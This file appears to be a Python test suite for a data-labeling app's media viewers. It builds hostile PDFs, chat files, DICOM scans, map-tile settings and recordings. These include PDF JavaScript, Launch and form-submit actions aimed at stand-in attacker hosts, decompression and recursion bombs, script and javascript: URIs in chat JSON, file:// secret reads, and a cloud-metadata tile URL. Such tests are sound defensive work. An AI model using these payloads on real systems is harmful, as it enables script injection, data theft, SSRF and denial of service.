"""PDFs, chats, scans and tile layers that do more, or hold more, than they should."""

# ruff: noqa: E501 - markup and scripts stand as they are
from __future__ import annotations

import json
import zlib
from dataclasses import replace
from functools import cache
from typing import Any

from tests.hostile.case import Case, Served, State, asset, harm, heavy, markup, served
from tests.hostile.made_dicom import deflated_bomb, dicom
from tests.media.made_pdf import pdf

CHAT = {"type": "application/vnd.labelbox.conversational", "version": 1}
TILES = {"bounds": [[0, 0], [1, 1]], "epsg": "EPSG3857", "min_zoom": 0, "max_zoom": 3}


def cases() -> list[Case]:
    """Return the cases of this group."""
    return [*_acting_pdf(), *_pdf_bombs(), *_chats(), *_scans(), *_tiles(), *_recordings()]


def _acting_pdf() -> list[Case]:
    code = _escaped("app.alert('lbw-pwned'); this.submitForm('@EVIL@/pdf');")
    actions = {
        "JavaScript": f"<< /S /JavaScript /JS ({code}) >>",
        "Launch": "<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>",
        "URI": "<< /S /URI /URI (@EVIL@/uri) >>",
        "SubmitForm": "<< /S /SubmitForm /F (@EVIL@/form) >>",
        "GoToR": "<< /S /GoToR /F (//evil.example/share) /D [0 /Fit] >>",
        "a title of markup": f"<< /S /Named /N /Print >> /Info << /Title ({_escaped(markup('pdf'))}) >>",
    }
    return [
        served(f"pdf with {name}", "PDF_URL", _with_action(action), State.SHOWN)
        for name, action in actions.items()
    ]


def _escaped(text: str) -> str:
    """Return the inside of a literal string (ISO 32000-1 §7.3.4.2)."""
    return text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")


def _with_action(action: str) -> str:
    entry = f"<< /Type /Catalog /OpenAction {action} /Names << /JavaScript << /Names [(a) {action}] >> >>"
    return (
        pdf(["BT /F1 9 Tf 9 9 Td (words) Tj ET"])
        .decode("latin-1")
        .replace("<< /Type /Catalog", entry)
    )


def _pdf_bombs() -> list[Case]:
    def raw(objects: list[bytes]) -> bytes:
        return _file(objects)

    @cache
    def inflated() -> list[bytes]:
        return [_stream_pdf(zlib.compress(b" " * (1 << 28), 9), "/Filter /FlateDecode")]

    def loop() -> list[bytes]:
        tree = b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2147483647 >>"
        return [raw([b"<< /Type /Catalog /Pages 2 0 R >>", tree])]

    made = {
        "pdf of 256 MB in a stream": (inflated, State.SHOWN),
        "pdf whose pages are themselves": (loop, State.ERROR),
        "pdf page of a huge size": (lambda: [pdf([""], size=(1e9, 1e9))], State.SHOWN),
        "pdf page of no size": (lambda: [pdf([""], size=(0, -1))], State.SHOWN),
        "pdf page of a thin size": (lambda: [pdf([""], size=(14_400, 0.01))], State.SHOWN),
        "pdf of a million paths": (
            lambda: [pdf(["".join(f"{n % 200} 0 m 0 {n % 99} l S\n" for n in range(300_000))])],
            State.SHOWN,
        ),
    }
    return heavy(
        *[served(f"bomb: {name}", "PDF_URL", body, state) for name, (body, state) in made.items()]
    )


def _file(objects: list[bytes]) -> bytes:
    body = b"%PDF-1.4\n"
    for number, text in enumerate(objects, 1):
        body += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    return body + b"trailer\n<< /Root 1 0 R /Size %d >>\n%%%%EOF" % (len(objects) + 1)


def _stream(body: bytes, more: str) -> bytes:
    return f"<< /Length {len(body)} {more} >>\nstream\n".encode() + body + b"\nendstream"


def _stream_pdf(body: bytes, more: str) -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R >>"
    return _file([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        page,
        _stream(body, more),
    ])  # fmt: skip


def pdf_of_forms(levels: int, width: int) -> bytes:
    """Return a page of a form, of as many forms, and so on."""
    form = "/Type /XObject /Subtype /Form /BBox [0 0 200 100]"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R "
            b"/Resources << /XObject << /X 5 0 R >> >> >>"
        ),
        _stream(b"/X Do", ""),
    ]
    for level in range(levels):
        inner = f"/Resources << /XObject << /X {6 + level} 0 R >> >>"
        objects.append(_stream(b"/X Do " * width, f"{form} {inner}"))
    objects.append(_stream(b"0 0 9 9 re f", form))
    return _file(objects)


def _chats() -> list[Case]:
    text = markup("chat")

    def message(n: int, content: Any, **more: Any) -> dict[str, Any]:
        user = {"userId": f"u{n}", "name": "someone"}
        return {"messageId": str(n), "content": content, "user": user, "align": "left", **more}

    scripted = [
        message(1, text, user={"userId": text, "name": text}, align=text, timestampUsec=text),
        message(2, [{"type": text, "content": {"fileUri": f"javascript:{harm('chat')}"}}]),
        message(3, {"type": "image", "content": "file://@FOLDER@/secret.txt"}),
        message(4, [{"type": "image", "content": {"fileUri": "@EVIL@/chat.png"}}]),
        message(5, "\u202egnp.exe", user={"userId": "\u202e", "name": "a\x1b[31m\u2066"}),
    ]
    odd_times = [
        message(n, "x", timestampUsec=at)
        for n, at in enumerate([1e30, -1e30, 2**70, "1e999", True, None, [1], {"a": 1}, "12", -1])
    ]

    def many() -> list[bytes]:
        one = json.dumps(message(1, "A message that is said again and again.")).encode()
        return [b'{"messages":[' + one, *[b"," + one] * 100_000, b"]}"]

    def deep() -> list[bytes]:
        return [b'{"messages":', b"[" * 1_000_000]

    nested: Any = "x"
    for _ in range(60):
        nested = [{"type": "text", "content": nested}]
    return [
        asset(
            "chat of script",
            "CONVERSATIONAL",
            {**CHAT, "messages": scripted},
            State.SHOWN,
            "<script>",
        ),
        asset("chat at odd times", "CONVERSATIONAL", {**CHAT, "messages": odd_times}, State.SHOWN),
        asset(
            "chat of nested parts",
            "CONVERSATIONAL",
            {"messages": [message(1, nested)]},
            State.SHOWN,
        ),
        asset(
            "chat of one long message",
            "CONVERSATIONAL",
            {"messages": [message(1, "long " * 2_000_000)]},
            State.SHOWN,
            "long",
        ),
        asset(
            "chat of a long user",
            "CONVERSATIONAL",
            {"messages": [message(1, "x", user={"name": "n" * 5_000_000})]},
            State.SHOWN,
        ),
        *heavy(
            Case(
                "chat of 100,000 messages",
                lambda here: {"row_data": f"{here.here}/file", "media_type": "CONVERSATIONAL"},
                State.SHOWN,
                "again and again",
                attachment=None,
                files={"file": Served(many, "application/json")},
            )
        ),
        Case(
            "json without an end",
            lambda here: {"row_data": f"{here.here}/file", "media_type": "CONVERSATIONAL"},
            State.ERROR,
            "JSON",
            attachment=None,
            files={"file": Served(deep, "application/json")},
        ),
    ]


def _scans() -> list[Case]:
    text = markup("dicom").encode()
    made = {
        "dicom with tags of script": (dicom(text=text), State.SHOWN),
        "dicom with bidi overrides": (dicom(text="\u202egnp.exe".encode()), State.SHOWN),
        "dicom with long tags": (dicom(text=b"x" * 2_000_000), State.SHOWN),
        "dicom of lying size": (dicom(says_size=(65_535, 65_535)), State.ERROR),
        "dicom of lying frames": (dicom(says_frames=b"2147483647 "), State.ERROR),
        "dicom of negative frames": (dicom(says_frames=b"-3"), State.ERROR),
        "dicom of odd depth": (dicom(says_bits=7), State.ERROR),
        "dicom with an odd window": (dicom(window=(b"1e308", b"-1e308")), State.SHOWN),
        "dicom nested without end": (dicom(nested=5000), State.ERROR),
    }
    bomb = _scan("dicom bomb", lambda: [deflated_bomb()], State.ERROR)
    return [*[_scan(name, body, state) for name, (body, state) in made.items()], *heavy(bomb)]


def _scan(name: str, body: Any, state: State) -> Case:
    files = {"a.dcm": Served(body, "application/dicom")}
    return asset(name, "DICOM", "@HERE@/a.dcm", state, files=files)


def _tiles() -> list[Case]:
    text = markup("tiles")
    layers = [{"tile_layer_url": "@HERE@/{z}/{x}/{y}.png", "name": text}] * 20
    rows = {
        "names of script": {**TILES, "alternative_layers": layers},
        "bounds without end": {**TILES, "bounds": [[-1e308, -1e308], [1e308, 1e308]]},
        "bounds that are no numbers": {**TILES, "bounds": [["<script>", None], [float("nan"), 1]]},
        "a zoom of a million": {**TILES, "min_zoom": 1_000_000, "max_zoom": 1_000_000},
        "tiles of no size": {**TILES, "tile_size": 0},
        "tiles of a huge size": {**TILES, "tile_size": 10**9},
        "100,000 layers": {**TILES, "alternative_layers": layers[:1] * 100_000},
    }
    shown = {"names of script", "tiles of a huge size", "100,000 layers"}
    made = [
        asset(
            f"tiles: {name}",
            "TMS_GEO",
            {"tile_layer_url": "@HERE@/{z}/{x}/{y}.png", **row},
            State.SHOWN if name in shown else State.ERROR,
            files=_every_tile(),
        )
        for name, row in rows.items()
    ]
    local = {**TILES, "tile_layer_url": "http://169.254.169.254/{z}/{x}/{y}"}
    other = {**TILES, "tile_layer_url": "file://@FOLDER@/{z}/{x}/{y}"}
    return [
        *made[:-1],
        *heavy(made[-1]),
        asset("tiles: of a metadata service", "TMS_GEO", local, State.ERROR, "metadata"),
        asset("tiles: of this machine", "TMS_GEO", other, State.ERROR),
    ]


def _every_tile() -> dict[str, Served]:
    import numpy as np  # noqa: PLC0415 - of these tiles

    from tests.media.corpus import png  # noqa: PLC0415 - as above

    tile = Served(png(np.full((256, 256), 99, np.uint8)), "image/png")
    return {f"{z}/{x}/{y}.png": tile for z in range(4) for x in range(2**z) for y in range(2**z)}


def _recordings() -> list[Case]:
    box = b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom"
    page = f"<script>{harm('video')}</script>".encode()
    wav = (
        b"RIFF\xff\xff\xff\xffWAVEfmt \x10\0\0\0\x01\0\x01\0\x01\0\0\0\x01\0\0\0\x01\0\x08\0"
        b"data\xff\xff\xff\xff" + page
    )
    return [
        served("video that is a page", "VIDEO", box + page, State.ERROR, content_type="text/html"),
        served(
            "video of a lying box", "VIDEO", box + b"\xff\xff\xff\xffmoov" + bytes(99), State.ERROR
        ),
        replace(served("audio of 136 years", "AUDIO", wav, State.SHOWN), page_state=State.ERROR),
    ]
